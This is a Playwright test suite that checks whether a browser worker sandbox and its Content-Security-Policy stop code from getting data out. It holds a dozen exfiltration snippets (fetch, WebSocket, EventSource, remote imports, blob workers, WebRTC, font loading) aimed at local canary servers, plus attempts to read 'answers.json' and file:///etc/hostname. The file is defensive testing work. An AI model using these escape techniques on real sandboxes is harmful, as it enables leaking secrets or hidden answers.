/**
 * Group A: getting data out of the worker. Judged by canaries, never by "it threw".
 *
 * Every attack runs three times: in the book's own build; in a build whose worker is not hardened, so
 * that the policy alone must hold; and, as a control, there without the policy line, where the canary
 * must be hit. Taking the policy line out of the build turns the second run red:
 * `SANDBOX_WITHOUT_POLICY=1` does so on purpose.
 */
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { startCanaries } from './canaries.ts';
import { run } from './sandbox-driver.ts';
import { startSandboxSite } from './sandbox-site.ts';
import type { Canaries } from './canaries.ts';
import type { SandboxSite, SiteOptions } from './sandbox-site.ts';

const unlockedEntry = 'tests/browser/unlocked-worker.ts';
const withoutPolicy = process.env['SANDBOX_WITHOUT_POLICY'] === '1';

/** Code of an attack; `u` holds the ways out, `at` a canary's address for this attack. */
interface Attack {
  name: string;
  code: string;
  /** False where this browser has no such way at all, so the control cannot hit either. */
  inControl?: boolean;
}

const attacks: Attack[] = [
  {
    name: 'A1 fetch',
    code: "await u.fetch(at, { method: 'POST', mode: 'no-cors', body: 'secret' })",
  },
  {
    name: 'A2 XMLHttpRequest',
    code: "const x = new u.XMLHttpRequest(); x.open('GET', at); x.send(); await new Promise((r) => { x.onloadend = r; })",
  },
  {
    name: 'A3 WebSocket',
    code: "const w = new u.WebSocket(at.replace('http', 'ws')); await new Promise((r) => { w.onclose = r; w.onerror = r; })",
  },
  { name: 'A3 WebSocket to a port of anything', code: 'new u.WebSocket(`ws://127.0.0.1:${tcp}/`)' },
  {
    name: 'A4 EventSource',
    code: 'const e = new u.EventSource(at); await new Promise((r) => { e.onerror = r; }); e.close()',
  },
  { name: 'A5 importScripts', code: "u.importScripts(at + '.js')" },
  { name: 'A6 import of a remote module', code: "await load(at + '.js')" },
  {
    name: 'A8 import of a blob that fetches',
    code: "const url = URL.createObjectURL(new Blob([`await unlocked.fetch('${at}', { mode: 'no-cors' })`], { type: 'text/javascript' })); await load(url)",
  },
  {
    name: 'A10 nested blob worker that fetches',
    code: "const url = URL.createObjectURL(new Blob([`fetch('${at}', { mode: 'no-cors' })`])); const w = new u.Worker(url); await new Promise((r) => setTimeout(r, 500))",
  },
  {
    name: 'A11 WebTransport',
    code: 'const t = new u.WebTransport(`https://127.0.0.1:${udp}/`); await t.ready',
    inControl: false,
  },
  {
    name: 'A17 RTCPeerConnection',
    code: "const p = new u.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }); p.createDataChannel('x'); await p.setLocalDescription()",
    inControl: false,
  },
  { name: 'a font', code: "await new u.FontFace('f', `url(${at})`).load()" },
];

function program(attack: Attack, canaries: Canaries, token: string): string {
  return `
const g = globalThis as any;
const u: any = g.unlocked ?? g;
const at = 'http://127.0.0.1:${canaries.http}/${token}';
const tcp = ${canaries.tcp}, udp = ${canaries.udp};
// The loader gives cells an import() of its own; a script made in place gets the real one.
const load = (url: string) => new Promise((resolve, reject) => {
  Object.assign(g, { loaded: resolve, failed: reject });
  const script = URL.createObjectURL(new Blob(['import(' + JSON.stringify(url) + ').then(loaded, failed)'], { type: 'text/javascript' }));
  u.importScripts(script);
});
try {
  ${attack.code};
  console.log('went through');
} catch (error) {
  console.log('threw ' + error);
}
await new Promise((r) => setTimeout(r, 250));`;
}

/** A site with one page kept open: attacks come one after the other. */
interface Place extends SandboxSite {
  page: Page;
}

// In one process, in order: the pages are shared.
test.describe.configure({ mode: 'default' });

let canaries: Canaries;
let book: Place;
let unlocked: Place;
let control: Place;

test.beforeAll(async ({ browser }) => {
  const open = async (options: SiteOptions): Promise<Place> => {
    const site = await startSandboxSite(options);
    const page = await browser.newPage();
    await page.goto(site.url);
    return { ...site, page };
  };
  canaries = await startCanaries();
  book = await open({ policy: !withoutPolicy });
  unlocked = await open({ entry: unlockedEntry, policy: !withoutPolicy });
  control = await open({ entry: unlockedEntry, policy: false });
});
test.afterAll(() => Promise.all([canaries, book, unlocked, control].map((it) => it.close())));

for (const [index, attack] of attacks.entries()) {
  test(attack.name, async () => {
    const tryIn = async (
      place: Place,
      name: string,
    ): Promise<{ text: string; heard: string[] }> => {
      const token = `attack-${index}-${name}`;
      const before = canaries.hits.length;
      const { outcome, text } = await run(place.page, program(attack, canaries, token), {
        limitMs: 3_000,
      });
      expect(['finished', 'limit']).toContain(outcome.status);
      // A raw connection carries no name, so everything that came meanwhile counts.
      const heard = canaries.hits
        .slice(before)
        .filter((hit) => hit === 'tcp' || hit === 'udp' || hit.includes(token));
      return { text, heard };
    };
    expect((await tryIn(book, 'book')).heard, 'in the book’s sandbox').toEqual([]);
    expect((await tryIn(unlocked, 'unlocked')).heard, 'by the policy alone').toEqual([]);
    const { text, heard } = await tryIn(control, 'control');
    if (attack.inControl === false) {
      // No such thing in a worker of this browser: the attack fails for want of a constructor.
      expect(text).toContain('is not a constructor');
    } else {
      expect(heard, 'without policy and hardening').not.toEqual([]);
    }
  });
}

test('A7 a data: module does not run', async () => {
  const code = (which: string): string =>
    program(
      {
        name: '',
        code: "await load('data:text/javascript,globalThis.ranFromData = true'); console.log('ran', g.ranFromData)",
      },
      canaries,
      which,
    );
  const closed = await run(unlocked.page, code('a7'), { limitMs: 3_000 });
  expect(closed.text).not.toContain('ran true');
  expect((await run(control.page, code('a7c'), { limitMs: 3_000 })).text).toContain('ran true');
});

test('A13 the site’s own files cannot be asked for', async () => {
  for (const [site, open] of [
    [unlocked, false],
    [control, true],
  ] as const) {
    const before = site.requests.length;
    await run(
      site.page,
      `const u = (globalThis as any).unlocked; try { await u.fetch('${new URL('answers.json', site.url).href}', { mode: 'no-cors' }); } catch {}`,
      { limitMs: 3_000 },
    );
    const asked = site.requests.slice(before).some(({ path }) => path === '/answers.json');
    expect(asked).toBe(open);
  }
});

test('A13 and would not be readable without the policy either', async () => {
  const { text } = await run(
    control.page,
    `const u = (globalThis as any).unlocked; try { console.log(await (await u.fetch('${new URL('answers.json', control.url).href}')).text()); } catch (error) { console.log('refused'); }`,
  );
  expect(text).toBe('refused');
});

test('A14 blob:, data: and file: cannot be fetched', async () => {
  const code = `const u = (globalThis as any).unlocked;
for (const url of [URL.createObjectURL(new Blob(['blobbed'])), 'data:text/plain,inlined', 'file:///etc/hostname']) {
  try { console.log('read ' + await (await u.fetch(url)).text()); } catch { console.log('refused'); }
}`;
  expect((await run(unlocked.page, code)).text).toBe('refused\nrefused\nrefused');
  expect((await run(control.page, code)).text).toContain('read blobbed\nread inlined');
});

test('A16 the policy reports to nobody', async ({ page }) => {
  const response = await page.goto(new URL('sandbox.html', book.url).href);
  const html = await response!.text();
  expect(html).toMatch(
    /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'sha256-[^']+' blob: 'wasm-unsafe-eval'; worker-src blob:; form-action 'none'; base-uri 'none'">/,
  );
  expect(html).not.toContain('report');
  expect(html).not.toContain('unsafe-inline');
  expect(html).not.toContain("'unsafe-eval'");
});

test('A17, A19 what a worker must not have at all', async () => {
  const { text } = await run(
    book.page,
    `const g = globalThis as any;
console.log(['RTCPeerConnection', 'RTCDataChannel', 'SharedWorker', 'ServiceWorker', 'WebTransport', 'SharedArrayBuffer', 'fetch', 'Worker', 'importScripts', 'postMessage', 'close', 'indexedDB', 'BroadcastChannel'].filter((name) => typeof g[name] !== 'undefined').join());
console.log(typeof g.navigator.serviceWorker);`,
  );
  expect(text).toBe('\nundefined');
});

test('A20 timing entries show nothing of the page', async ({ page }) => {
  await page.goto(`${book.url}?token=secret`);
  const { text } = await run(
    page,
    'console.log(JSON.stringify(performance.getEntries().map((e) => e.name)), String(location), (globalThis as any).origin);',
  );
  expect(text).not.toContain('127.0.0.1');
  expect(text).not.toContain('secret');
  expect(text).toContain('null');
});
